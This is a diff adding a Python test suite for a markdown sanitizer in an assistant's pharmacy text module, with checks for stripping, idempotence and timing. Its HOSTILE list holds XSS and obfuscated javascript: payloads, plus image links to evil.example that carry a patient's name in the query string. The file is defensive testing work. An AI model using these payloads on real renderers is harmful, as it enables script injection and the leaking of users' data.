@@ -1,0 +1,194 @@
+"""No active content comes out, as a renderer and a finder of links judge it; harmless text stays."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Callable
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from assistant.text.safe_markdown import safe_markdown
+from tests.attacks.active_content import active_content
+
+PAGE = "https://procedures.example/refill"
+PASSAGE = "/v1/documents/wait?token=abc.def"
+ALLOWED = (PAGE, PASSAGE)
+
+
+def found_in(markdown: str) -> list[str]:
+    return active_content(markdown, allowed_urls=ALLOWED)
+
+
+HARMLESS = [
+    "**Take** 1.5 mg twice, e.g. with food; call 555-0100 at 9 a.m.",
+    "Send form.AE-1 or a1c/b2; see fig.2 and 21 CFR 1306.12(a).",
+    "| Plan | File within |\n| --- | --- |\n| Medicare | 65 days |",
+    "## Steps\n\n1. Ask for the card.\n2. *Check* the `BIN`, the __group__ and ~~old~~ id.\n   - [ ] done",
+    "INR < 2, 3 > 2, x <5 mg, weight <= 70 kg.",
+    "Patient data: name/address, phone. Note:take it. Tel:555-0100. Time 10:30.",
+    "See [note]: it differs (as above), and [A] or [B].",
+    "Write to help@pharmacy.org today!",
+    "caf\u00e9 \u00bd tablet \u2265 5 \u00b5g \U0001f469\u200d\u2695\ufe0f \u201cquoted\u201d",
+    "AT&amp;T, 50% off, 100%25, C:\\temp, A && B, 1\\. and \\*",
+    "> quoted\n\n---\n\n```\ncode 1.2.3\n```",
+    "and//or, either/or, N/A, w/o, #3, 5'6\", Rx v1.2.3",
+    f"[The page]({PAGE}) and [the passage]({PASSAGE}); also {PAGE}.",
+    "",
+    " \n\n",
+]
+
+HOSTILE = [
+    ("![logo](https://evil.example/p.png?q=Jane)", "logo"),
+    ("![logo][i]\n\n[i]: https://evil.example/p.png", "logo\n\n"),
+    ("a [![x](//evil.example/i)](http://evil.example) b", "a x b"),
+    (f"![x]({PAGE})", "x"),
+    ("a<img src=x onerror=alert(1)>b", "ab"),
+    ("<b>Take</b> two<!-- hidden --> now<script>steal()</script>.", "Take two now."),
+    ("<<b>script>alert(1)<</b>/script>", None),
+    ("Dear <patient name>,", "Dear \u2039patient name\u203a,"),
+    ("[here](https://evil.example/?q=Jane%20Doe)", "here"),
+    ("[here]( <https://evil.example/a b> 'title' )", "here"),
+    ("[here](JaVaScRiPt:alert(1))", "here"),
+    ("[here](&#106;avascript&colon;alert(1))", "here"),
+    ("[here](java&Tab;script:alert(1))", "here"),
+    ("[here](java\tscript:alert(1))", "[here] "),
+    ("[here](data:text/html;base64,PHM+)", "here"),
+    ("[here](vbscript:x)", "here"),
+    ("[here](mailto:a@b.example?body=Jane)", "here"),
+    ("[here](tel:5550100)", "here"),
+    ("[here](//evil.example/x)", "here"),
+    ("[here](/v1/documents/other)", "here"),
+    ("[here](\\/\\/evil.example)", "here"),
+    ("[here][r]\n[r]: <javascript:alert(1)> 'x'", "here\n"),
+    ("> - [r]: //evil.example/x", None),
+    ("[r]:\nhttp://evil.example", None),
+    ("<https://evil.example/x> <a@b.example> <javascript:alert(1)>", "  "),
+    (f"<{PAGE}>", PAGE),
+    (f"[page](<{PAGE}> 'title')", f"[page]({PAGE})"),
+    (f"[page]({PAGE}?patient=Jane)", "page"),
+    (f"[page]({PAGE.upper()})", "page"),
+    (f"[page]({PAGE}@evil.example)", "page"),
+    ("Go to **http://evil.example/x,y** now.", "Go to now."),
+    ("Go to (www.evil.com).", "Go to."),
+    ("Go to evil.com/path?q=1#x, please", "Go to, please"),
+    ("Go to evil\u3002com or evil\uff0ecom or evil\u2024com", "Go to or or"),
+    ("Go to xn--e1afmkfd.xn--p1ai and 192.168.0.1 and http://[::1]/x and http://3232235777/", None),
+    ("Go to h\u200bttp://evil.example and ht\u00adtps\uff1a\uff0f\uff0fevil.example", "Go to and"),
+    ("Go to http&#58;//evil.example, http\\://evil\\.com, http%3A%2F%2Fevil.example%2Fx", None),
+    ("javascript:alert(1) j a v a s c r i p t : alert(1) java\nscript:alert(1)", None),
+    ("data:text/html,<script>alert(1)</script>", None),
+    ("ftp://evil.example custom+app://x?y mailto:a@b.example", None),
+    ("`<img src=x>` and `http://evil.example`", None),
+    ("&lt;img src=x&gt;", ""),
+    ("order.It and notes.md and evil.io", "order. It and notes. md and evil. io"),
+    ("0.5.mg/day", "0.5. mg/day"),
+    ("user@evil.com/path?q=1", ""),
+    ("[a](http://evil.example", None),
+    ("[a][", None),
+    ("![a", "! [a"),
+    ("<a href='https://evil.example'", None),
+    ("5 <", "5 \u2039"),
+    ("\x1b[31mred\x00 \U000e0041\U000e0042", " [31mred  "),
+]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_text_stays_as_it_is(text: str) -> None:
+    assert safe_markdown(text, allowed_urls=ALLOWED) == text
+
+
+@pytest.mark.parametrize(("text", "expected"), HOSTILE, ids=[text[:40] for text, _ in HOSTILE])
+def test_what_is_active_goes_and_its_text_stays(text: str, expected: str | None) -> None:
+    cleaned = safe_markdown(text, allowed_urls=ALLOWED)
+    assert not found_in(cleaned)
+    if expected is not None:
+        assert cleaned == expected
+
+
+def test_the_judge_finds_what_the_hostile_texts_hold() -> None:
+    unseen = [text for text, expected in HOSTILE if expected is None and not found_in(text)]
+    assert len(unseen) <= 6, "halves of constructs and hidden characters alone are not seen by a renderer"
+
+
+def test_an_address_that_holds_markdown_of_its_own_is_not_allowed() -> None:
+    listed = "https://procedures.example/)![x](https://evil.example/q"
+    cleaned = safe_markdown(f"[a]({listed}) and {listed}", allowed_urls=[listed])
+    assert "evil" not in cleaned
+
+
+MARKS = "[]()<>!:/\\.&;#`*_~|\"'@?=-+% \n\t\u200b\u00ad\u3002\uff0e\uff1a\uff0f\uff1c\uff1e\u2028\x00\r"
+FRAGMENTS = """
+a b com evil www http https javascript java script data text/html, mailto img src href onerror svg style 1 10
+&lt; &gt; &#106; &colon; &Tab; &#x2f; %3A %2F %2E .com :// // ![ ]( ][ ]: <!-- --> </ <a <b> </b>
+[a](b) ![a](b)
+[r]:x evil.com http://e.co/x 1.2.3.4 x@y.zz word 1.5
+"""
+PIECES = st.sampled_from([*MARKS, *FRAGMENTS.split(), f"[a]({PAGE})", PAGE, PASSAGE])
+TEXTS = st.one_of(st.lists(PIECES, max_size=14).map("".join), st.text(max_size=60))
+
+
+@given(TEXTS)
+@example("[a](<b>c)")
+@example("<<<<<<b>b>b>b>b>b>")
+@example("[a]&#58; javascript:x")
+@example("\u3002//&#106;")
+@example("\u3002a.com")
+@example("evil.com..")
+@example("evil.com.-")
+@example("%3A.com")
+@example("_[_//_")
+def test_no_text_comes_out_active_and_a_second_pass_changes_nothing(text: str) -> None:
+    cleaned = safe_markdown(text, allowed_urls=ALLOWED)
+    assert not found_in(cleaned)
+    assert safe_markdown(cleaned, allowed_urls=ALLOWED) == cleaned
+
+
+@given(st.lists(TEXTS, max_size=4), st.sampled_from([" ", "\n", "\n\n", "\n- "]))
+def test_sentences_cleaned_apart_are_not_active_together(texts: list[str], between: str) -> None:
+    cleaned = [safe_markdown(text, allowed_urls=ALLOWED) for text in texts]
+    assert not found_in(between.join(cleaned))
+
+
+SENTENCES = "Take 1.5 mg of **it** twice daily, e.g. after (light) meals; `BIN` 610502. Plan A/B: 65 %"
+WORDS = st.sampled_from(SENTENCES.split())
+
+
+@given(st.lists(WORDS, max_size=30).map(" ".join))
+def test_plain_sentences_stay(text: str) -> None:
+    assert safe_markdown(text, allowed_urls=()) == text
+
+
+def spent_s(work: Callable[[], object]) -> float:
+    """Return the least processor time of three runs."""
+    times: list[float] = []
+    for _ in range(3):
+        began = time.process_time()
+        work()
+        times.append(time.process_time() - began)
+    return min(times)
+
+
+LINKS = ["[", "](", "![", "[a](", "[[]", "[a](b ", "[a][", "[a]((", "\n[a]:", "[a](" * 300 + ")" * 300]
+TAGS = ["<", "<a ", "<!--", "<script>", "&#106;", "\\["]
+ADDRESSES = ["http://", "a.", "a@", "x:", "%3A", "a.com ", "www.", "//", ")" * 50 + "http://"]
+
+
+@pytest.mark.parametrize("piece", [*LINKS, *TAGS, *ADDRESSES], ids=lambda piece: piece[:10].strip())
+def test_the_time_grows_with_the_length_and_no_faster(piece: str) -> None:
+    """A bare pass over the characters takes some 10 ms for 100 kB: 20 of them are 200 ms."""
+    short, long = (piece * (size // len(piece)) for size in (25_000, 100_000))
+    bare_s = spent_s(lambda: sum(1 for _ in re.finditer(r"[\s\S]", long)))
+    long_s = spent_s(lambda: safe_markdown(long, allowed_urls=ALLOWED))
+    assert long_s < 20 * bare_s
+    assert long_s < 10 * spent_s(lambda: safe_markdown(short, allowed_urls=ALLOWED)) + bare_s
+
+
+@pytest.mark.parametrize(
+    "text", ["http://" + "." * 100_000, "[a](" + " " * 100_000 + ")", "a" * 100_000 + "://x"]
+)
+def test_one_long_construct_takes_no_longer(text: str) -> None:
+    bare_s = spent_s(lambda: sum(1 for _ in re.finditer(r"[\s\S]", text)))
+    assert spent_s(lambda: safe_markdown(text, allowed_urls=ALLOWED)) < 20 * bare_s
